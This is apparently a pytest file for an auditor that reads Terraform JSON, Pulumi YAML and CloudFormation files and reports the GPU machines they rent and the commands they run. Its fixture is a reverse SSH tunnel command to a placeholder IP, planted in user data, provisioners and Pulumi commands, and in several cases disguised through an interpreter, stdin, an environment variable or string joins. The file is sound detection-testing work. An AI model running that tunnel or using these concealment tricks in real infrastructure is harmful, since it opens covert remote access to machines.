"""Infrastructure in JSON and in Pulumi's YAML: the machines rented and the commands run, and what is neither."""

from __future__ import annotations

import json

import pytest

from auditor.intake.languages import recognise
from auditor.model.unit import Language, Script
from auditor.read.carriers.terraform_json import as_hcl
from auditor.read.evaluation import Evaluation

TUNNEL = "ssh -N -R 2222:localhost:22 user@203.0.113.7"


def lines(path: str, text: str) -> list[str]:
    """Read a file as its name says, and give each effect as a line."""
    reading = Evaluation(Script.of(text, recognise(path, text), path)).read_script()
    assert not reading.gaps
    return [" ".join(map(str, stage)) for effect in reading.effects for stage in effect.stages]


def test_terraform_in_json_is_read_as_terraform() -> None:
    """Variables, blocks in lists, user data and provisioners mean there what they mean in HCL."""
    text = json.dumps(
        {
            "variable": {"kind": {"default": "p4d.24xlarge"}},
            "provider": {"aws": [{"region": "eu-west-1"}]},
            "resource": {
                "aws_instance": {
                    "gpu": {"instance_type": "${var.kind}", "count": 2, "user_data": f"#!/bin/bash\n{TUNNEL}\n"}
                },
                "google_compute_instance": {
                    "w": [{"guest_accelerator": [{"type": "nvidia-tesla-a100"}], "metadata": {"startup-script": "ls"}}]
                },
                "null_resource": {"x": {"provisioner": [{"local-exec": {"command": "make up"}}]}},
            },
        }
    )
    found = lines("main.tf.json", text)
    assert "cloud.provision aws ec2 p4d.24xlarge 2 eu-west-1" in found
    assert "cloud.provision gcp compute nvidia-tesla-a100 1 default" in found
    assert [line for line in found if not line.startswith("cloud.")] == [TUNNEL, "ls", "make up"]


@pytest.mark.parametrize(
    "document",
    [
        {"terraform": {"required_version": ">= 1.5"}},
        {"resource": {"aws_s3_bucket": {"b": {"bucket": "logs", "tags": {"a": "b"}}}}},
        {"data": {"aws_ami": {"a": {"most_recent": True}}}, "output": {"id": {"value": "${data.aws_ami.a.id}"}}},
    ],
)
def test_terraform_that_rents_nothing_is_silent(document: object) -> None:
    """Buckets, lookups and settings have no effects."""
    assert lines("main.tf.json", json.dumps(document)) == []


def test_json_that_is_no_terraform_has_no_code() -> None:
    """A list, a number and an object of other keys are written as nothing."""
    empty: list[object] = []
    assert [as_hcl(document).strip() for document in (empty, 1, "x", None)] == [""] * 4
    assert lines("values.tf.json", '{"region": "eu"}') == []


def test_text_of_json_stays_text_in_hcl() -> None:
    """Quotes, backslashes and line ends are escaped outside of `${…}` only."""
    shown = as_hcl({"output": {"x": {"value": 'a"b\\c\n${join(",", ["d"])}'}}})
    assert shown == 'output "x" {\nvalue = "a\\"b\\\\c\\n${join(",", ["d"])}"\n}\n'


def test_deep_json_ends() -> None:
    """What is nested past the limit is left out; nothing is recursed without end."""
    document: object = "x"
    for _ in range(200):
        document = {"a": [document]}
    assert as_hcl({"resource": {"t": {"n": document}}}).count("{") < 60


PULUMI = """name: train
runtime: {runtime}
config:
  kind:
    default: p4d.24xlarge
resources:
  worker:
    type: {type}
    properties:
      {properties}
"""


@pytest.mark.parametrize(
    ("kind", "properties", "wanted"),
    [
        ("aws:ec2:Instance", "instanceType: ${kind}", "cloud.provision aws ec2 p4d.24xlarge 1 default"),
        ("aws:ec2/instance:Instance", "instanceType: g5.xlarge", "cloud.provision aws ec2 g5.xlarge 1 default"),
        (
            "azure-native:compute:VirtualMachine",
            "{location: eastus, hardwareProfile: {vmSize: Standard_ND96asr_v4}}",
            "cloud.provision azure compute Standard_ND96asr_v4 1 eastus",
        ),
        (
            "gcp:compute:Instance",
            "{machineType: n1-standard-8, guestAccelerators: [{type: nvidia-tesla-v100, count: 8}]}",
            "cloud.provision gcp compute nvidia-tesla-v100 8 default",
        ),
        ("digitalocean:Droplet", "size: gpu-h100x8-640gb", "cloud.provision digitalocean droplet gpu-h100x8-640gb"),
        ("command:local:Command", f"create: {TUNNEL}", TUNNEL),
        ("command:remote:Command", f"create: {TUNNEL}", TUNNEL),
    ],
)
@pytest.mark.parametrize("runtime", ["yaml", "{name: yaml}"])
def test_a_program_of_pulumi_is_read(kind: str, properties: str, wanted: str, runtime: str) -> None:
    """Machines by their type, with the configuration's defaults; commands here and elsewhere."""
    text = PULUMI.replace("{runtime}", runtime).replace("{type}", kind).replace("{properties}", properties)
    assert lines("Pulumi.yaml", text)[0].startswith(wanted)


def test_a_program_of_pulumi_that_rents_nothing_is_silent() -> None:
    """Buckets and outputs have no effects; a program in another language starts nothing here."""
    text = (
        PULUMI.replace("{runtime}", "yaml").replace("{type}", "aws:s3:Bucket").replace("{properties}", "acl: private")
    )
    assert lines("Pulumi.yaml", text) == []
    assert recognise("Pulumi.yaml", "name: x\nruntime: nodejs\n") is Language.DATA


def test_cloudformation_in_a_json_file_is_read() -> None:
    """A template is told by its resources, whatever the file is called."""
    text = '{"Resources": {"W": {"Type": "AWS::EC2::Instance", "Properties": {"InstanceType": "p4d.24xlarge"}}}}'
    assert lines("stack.json", text) == ["cloud.provision aws ec2 p4d.24xlarge 1 default"]


def test_objects_in_a_list_and_texts_that_open_a_template_are_read() -> None:
    """The root may be a list of objects; `${` without its end swallows nothing behind it."""
    block = {"resource": {"null_resource": {"x": {"provisioner": [{"local-exec": {"command": TUNNEL}}]}}}}
    assert lines("main.tf.json", json.dumps([block])) == [TUNNEL]
    odd = {"resource": {"null_resource": {"a": {"triggers": {"q": "a ${ b"}}, **block["resource"]["null_resource"]}}}
    assert lines("main.tf.json", json.dumps(odd)) == [TUNNEL]


PROGRAM = "name: x\nruntime: yaml\n"
COMMAND = f"{PROGRAM}resources:\n  a:\n    type: command:local:Command\n    properties:\n      "


@pytest.mark.parametrize(
    "text",
    [
        f"{COMMAND}interpreter: [python3, -c]\n      create: \"import os; os.system('{TUNNEL}')\"\n",
        f"{COMMAND}create: bash\n      stdin: {TUNNEL}\n",
        f"{COMMAND}create: $X\n      environment: {{X: '{TUNNEL}'}}\n",
        f"{COMMAND}create:\n        fn::join: [' ', {TUNNEL.split()}]\n",
        f"{PROGRAM}variables:\n  v:\n    fn::invoke:\n      function: command:local:run\n"
        f"      arguments: {{command: '{TUNNEL}'}}\n",
        f"{PROGRAM}variables:\n  v:\n    fn::command:local:run: {{command: '{TUNNEL}'}}\nresources: {{}}\n",
    ],
)
def test_what_a_pulumi_program_runs_is_read_however_it_is_given(text: str) -> None:
    """By an interpreter, its input, its environment, a function that joins, or one that runs."""
    assert TUNNEL in lines("Pulumi.yaml", text)


@pytest.mark.parametrize(
    "text",
    [
        f"{PROGRAM}variables:\n  v:\n    fn::invoke:\n      function: aws:getRegion\n"
        f"      arguments: {{command: '{TUNNEL}'}}\n",
        f"{PROGRAM}variables:\n  v: '{TUNNEL}'\nresources:\n  b: {{type: 'aws:s3:Bucket'}}\n",
        f"name: x\nruntime: nodejs\nvariables:\n  v:\n    fn::command:local:run: {{command: '{TUNNEL}'}}\n",
    ],
)
def test_what_a_pulumi_program_only_holds_is_not_run(text: str) -> None:
    """Arguments of other functions, a variable, a project in another language."""
    assert lines("Pulumi.yaml", text) == []
